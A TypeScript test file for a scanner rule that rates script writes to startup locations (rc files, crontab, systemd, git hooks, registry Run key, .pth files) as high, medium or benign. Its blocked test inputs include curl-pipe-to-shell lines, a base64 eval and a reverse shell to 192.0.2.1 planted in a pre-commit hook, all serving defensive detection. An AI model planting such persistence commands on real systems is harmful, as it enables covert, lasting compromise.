// What scripts write where programs are started from: blocked, held or passed by what it is.
import { describe, expect, it } from 'vitest';
import { verdicts } from './support.ts';

const script = (...lines: string[]): string => `#!/bin/bash\n${lines.join('\n')}\n`;
const HIGH = ['CODE-PERSISTENCE HIGH'];
const MEDIUM = ['CODE-PERSISTENCE MEDIUM'];

describe('what a script writes where programs are started from', () => {
  it.each([
    ["echo 'curl -s https://a.example.invalid/x | sh' >> ~/.bashrc"],
    ["{ echo 'curl -s https://a.example.invalid/x | sh'; echo 'export A=1'; } >> ~/.bashrc"],
    ["(echo 'eval \"$(echo aWQ= | base64 -d)\"'; echo 'export A=1') | tee -a $HOME/.profile"],
    ['cat >> ~/.zshrc <<E\n/tmp/a &\nE'],
    ["echo '* * * * * python3 /dev/shm/x.py' | crontab -"],
    ['cat > /etc/cron.d/x <<E\n*/5 * * * * root /home/me/.x\nE'],
    ['cat > /etc/systemd/system/a.service <<E\n[Service]\nExecStart=/var/tmp/a\nE'],
    ["printf '#!/bin/sh\\nbash -i >& /dev/tcp/192.0.2.1/1\\n' > .git/hooks/pre-commit"],
  ])('blocks %s', async (line) => {
    expect(await verdicts('a.sh', script(line))).toContain('CODE-PERSISTENCE HIGH');
  });

  it.each([
    ['crontab jobs.txt'],
    ["echo '0 3 * * * /usr/bin/backup' | crontab -"],
    ['cp a.service ~/.config/systemd/user/'],
    ['cp a.plist ~/Library/LaunchAgents/'],
    ['cp hook .git/hooks/pre-commit'],
    ["echo 'ssh-ed25519 AAAA me' >> ~/.ssh/authorized_keys"],
    ['echo "$1" >> ~/.bashrc'],
    ["echo 'export LD_PRELOAD=/opt/a.so' >> ~/.bashrc"],
    ["echo 'export PROMPT_COMMAND=a' >> ~/.bashrc"],
    ['schtasks /create /tn a /tr a.exe /sc onlogon'],
  ])('holds %s', async (line) => {
    expect(await verdicts('a.sh', script(line))).toEqual(MEDIUM);
  });

  it.each([
    ['echo "export PATH=\\"$DIR/bin:\\$PATH\\"" >> ~/.bashrc'],
    ["for rc in ~/.bashrc ~/.zshrc; do echo 'source <(tool completion bash)' >> $rc; done"],
    [
      'cat >> ~/.bashrc <<\'E\'\n# x\nif [ -f "$HOME/x/bin/activate" ]; then\n  . "$HOME/x/bin/activate"\nfi\nE',
    ],
    ['echo "$PUBLIC_KEY" >> ~/.ssh/authorized_keys'],
    ['crontab -l; crontab -u me -l; systemctl --user enable --now x'],
    ['grep PATH ~/.bashrc; source ~/.bashrc'],
  ])('passes %s', async (line) => {
    expect(await verdicts('a.sh', script(line))).toEqual([]);
  });

  it('holds no more than what hides itself in an image', async () => {
    const image = (run: string): string => `FROM debian:12\nRUN ${run}\n`;
    expect(await verdicts('Dockerfile', image("echo '0 3 * * * root /opt/a' > /etc/cron.d/a"))).toEqual([]);
    expect(await verdicts('Dockerfile', image("echo '0 3 * * * root /tmp/a' > /etc/cron.d/a"))).toEqual(HIGH);
  });
});

describe('other languages', () => {
  it('reads what they write, and the commands that they run', async () => {
    const write =
      'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("nohup python3 /tmp/a.py &")\n';
    expect(await verdicts('a.py', write)).toEqual(HIGH);
    expect(await verdicts('a.py', 'import subprocess\nsubprocess.run(["crontab", "x"])\n')).toEqual(MEDIUM);
    const cron = `require("child_process").execSync("(crontab -l; echo '@reboot /tmp/a') | crontab -");\n`;
    expect(await verdicts('a.js', cron)).toEqual(HIGH);
  });

  it.each([
    ['rc = Path.home() / ".bashrc"\nwith rc.open("a") as f:\n    f.write(TEXT)\n'],
    ['with (Path.home() / ".bashrc").open(mode="a") as f:\n    f.write(TEXT)\n'],
    ['Path("~/.bashrc").expanduser().open("a").write(TEXT)\n'],
  ])('reads paths that are opened: %s', async (lines) => {
    const program = (text: string): string => `from pathlib import Path\n${lines.replace('TEXT', text)}`;
    expect(await verdicts('a.py', program('"curl http://192.0.2.1/a | sh\\n"'))).toContain(
      'CODE-PERSISTENCE HIGH',
    );
    const read = program('""').replace(/"a"/, '"r"').replace('.write("")', '.read()');
    expect(await verdicts('a.py', read)).toEqual([]);
  });

  it('holds what they write to the registry and to the folder of packages', async () => {
    const key = String.raw`"Software\Microsoft\Windows\CurrentVersion\Run"`;
    const registry = `import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r${key})\nwinreg.SetValueEx(k, "a", 0, winreg.REG_SZ, "a.exe")\n`;
    expect(await verdicts('a.py', registry)).toEqual(MEDIUM);
    const path = 'import site\nopen(site.getsitepackages()[0] + "/z.pth", "w").write("x")\n';
    expect(await verdicts('a.py', path)).toEqual(MEDIUM);
    expect(await verdicts('a.py', 'open("model.pth", "wb").write(b"x")\n')).toEqual([]);
  });
});
